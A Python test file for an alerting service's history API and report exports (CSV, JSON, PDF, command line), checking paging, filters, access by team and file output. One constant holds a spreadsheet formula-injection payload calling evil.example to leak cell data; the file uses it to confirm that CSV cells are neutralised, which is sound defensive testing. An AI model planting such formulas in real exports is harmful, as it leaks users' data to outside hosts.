"""Past alerts as a table and as files: all of them, in the reader's zone, and harmless where they are opened."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.reports.cells import COLUMNS
from api.reports.pdf import ReportContent, length, pdf
from api.reports.table_text import body, head
from streams.text.spreadsheet import FORMULA, harmless, plain
from tests.api.conftest import NOW, History

HOUR = 3_600_000
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'


def past(history: History, count: int, **fields: Any) -> None:
    """Alerts that fired one minute after another."""
    for number in range(count):
        history.alert(f"a{number:03}", triggered_at=NOW - HOUR + number * 60_000, **fields)


async def test_the_table_comes_page_by_page(admin: httpx.AsyncClient, history: History) -> None:
    """The newest first, each once, whatever their status; as many as the total says."""
    past(history, 7, status="resolved", resolved_at=NOW)
    found: list[str] = []
    cursor = ""
    while True:
        page = (await admin.get("/v1/history", params={"limit": 3, "cursor": cursor})).json()
        found += [one["id"] for one in page["items"]]
        if not (cursor := page["next_cursor"] or ""):
            break
    assert found == [f"a{number:03}" for number in reversed(range(7))]
    assert page["total"] == 7


async def test_filters(admin: httpx.AsyncClient, member: httpx.AsyncClient, history: History) -> None:
    """Table and report hold what the filters say, and of what the reader may see."""
    past(history, 2)
    history.alert(
        "theirs", team="search", severity="critical", message="disk of search", triggered_at=NOW - 1
    )
    for asked, ids in (
        ({"severity": "critical"}, ["theirs"]),
        ({"q": "DISK"}, ["theirs"]),
        ({"team": "payments"}, ["a001", "a000"]),
        ({"status": "resolved"}, []),
        ({"to": "2025-01-01"}, []),
    ):
        page = (await admin.get("/v1/history", params=asked)).json()
        assert [one["id"] for one in page["items"]] == ids
        report = (await admin.get("/v1/history/report", params=asked | {"format": "json"})).json()
        assert (report["total"], [one["id"] for one in report["items"]]) == (len(ids), ids)
    assert "theirs" not in (await member.get("/v1/history/report")).text
    assert (await member.get("/v1/history/report", params={"team": "search"})).status_code == 403


async def test_csv(admin: httpx.AsyncClient, history: History) -> None:
    """Every alert is a line, times are the reader's, and the header says how many come."""
    history.alert(
        "a", triggered_at=NOW, message='a "quoted", text\nof two lines', labels={"b": "2", "a": "1"}
    )
    history.alert(
        "a", "acknowledged", version=2, triggered_at=NOW, acknowledged_at=NOW + 90_000, status="acknowledged",
        message='a "quoted", text\nof two lines', labels={"b": "2", "a": "1"},
    )  # fmt: skip
    answer = await admin.get(
        "/v1/history/report", params={"zone": "Europe/Berlin", "from": "2025-11-01", "to": "2025-11-25"}
    )
    (row,) = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert (answer.headers["tocsin-total"], answer.headers["content-type"].partition(";")[0]) == (
        "1",
        "text/csv",
    )
    assert tuple(row) == COLUMNS
    assert (row["triggered_at"], row["seconds_to_acknowledge"]) == ("2025-11-24 17:00:00+01:00", "90.0")
    assert (row["message"], row["labels"]) == ('a "quoted", text\nof two lines', "a=1, b=2")
    assert answer.headers["content-disposition"] == 'attachment; filename="tocsin-2025-11-01-2025-11-25.csv"'


async def test_a_report_is_longer_than_what_is_read_at_once(
    admin: httpx.AsyncClient, history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All alerts are in it, each once, in whatever portions they are read."""
    monkeypatch.setattr("api.routes.history.table.BATCH", 3)
    past(history, 10)
    rows = list(csv.DictReader(io.StringIO((await admin.get("/v1/history/report")).text, newline="")))
    assert [row["id"] for row in rows] == [f"a{number:03}" for number in reversed(range(10))]
    items = (await admin.get("/v1/history/report", params={"format": "json"})).json()["items"]
    assert [one["id"] for one in items] == [row["id"] for row in rows]


async def test_an_empty_report_is_one(admin: httpx.AsyncClient) -> None:
    """Nothing happened: a head without lines, JSON without items, a document that can be opened."""
    asked: dict[str, str] = {}
    assert (await admin.get("/v1/history/report", params=asked)).text == head()
    assert (await admin.get("/v1/history/report", params={"format": "json"})).json()["items"] == []
    assert (await admin.get("/v1/history/report", params={"format": "pdf"})).content.startswith(b"%PDF-")


async def test_pdf(admin: httpx.AsyncClient, history: History) -> None:
    """Names of any script and signs that steer do not break it."""
    history.alert("a", message="Ошибка \x07 中 <b>" + "x" * 5_000, triggered_at=NOW - 1, rule="правило")
    answer = await admin.get("/v1/history/report", params={"format": "pdf"})
    assert (answer.headers["content-type"], answer.content[:5]) == ("application/pdf", b"%PDF-")
    assert answer.content.rstrip().endswith(b"%%EOF")


def test_a_long_pdf_says_what_it_leaves_out() -> None:
    """The document of a part is of more pages than one, and its figures are those of all."""
    row = dict.fromkeys(COLUMNS, "word " * 30)
    whole = pdf(ReportContent("t", "all", [], [row] * 40, 40))
    assert whole.count(b"/Type /Page\n") > 1
    assert [length(seconds) for seconds in (None, 42, 150, 12_600, 400_000)] == [
        "–",
        "42 s",
        "2.5 min",
        "3.5 h",
        "4.63 d",
    ]


@given(st.text(), st.sampled_from(sorted(FORMULA)), st.sampled_from(["", " ", "\t", "\r\n", "\u00a0"]))
def test_no_cell_is_a_formula(text: str, sign: str, space: str) -> None:
    """Whatever a message begins with, a spreadsheet reads it as text; what is none is left as it is."""
    written = body([dict.fromkeys(COLUMNS, f"{space}{sign}{text}")])
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert all(cell.startswith("'") for cell in row)
    assert harmless(EVIL) == f"'{EVIL}"
    assert (harmless("plain = text"), harmless(""), plain(harmless(EVIL))) == ("plain = text", "", EVIL)
    assert ",-1.5," in body([dict.fromkeys(COLUMNS, -1.5)])


@pytest.mark.parametrize("format", ["csv", "json", "pdf"])
def test_command_line(tocsin: Any, history: History, tmp_path: Path, format: str) -> None:
    """`tocsin report` writes the file and says how many alerts it holds; no half file is left."""
    past(history, 3)
    file = tmp_path / f"out.{format}"
    asked = ("--format", format, "--from", "2025-11-01", "--where", "team=payments")
    code, said = tocsin("report", *asked, "--output", str(file), "--to", "2025-11-25")
    assert (code, said.strip()) == (0, f"{file}: 3 alerts")
    assert len(list(tmp_path.glob("*.part"))) == 0
    if format == "json":
        assert len(json.loads(file.read_text())["items"]) == 3


def test_command_line_says_what_is_wrong(tocsin: Any, tmp_path: Path) -> None:
    """A filter that does not exist and a zone that does not are said in a line; nothing is written."""
    code, said = tocsin("report", "--where", "colour=red")
    assert (code, "write NAME=VALUE" in said) == (1, True)
    code, said = tocsin("report", "--zone", "Mars", "--output", str(tmp_path / "x.csv"))
    assert (code, "`zone`: 'Mars' is no IANA time zone" in said) == (1, True)
    assert not (tmp_path / "x.csv").exists()
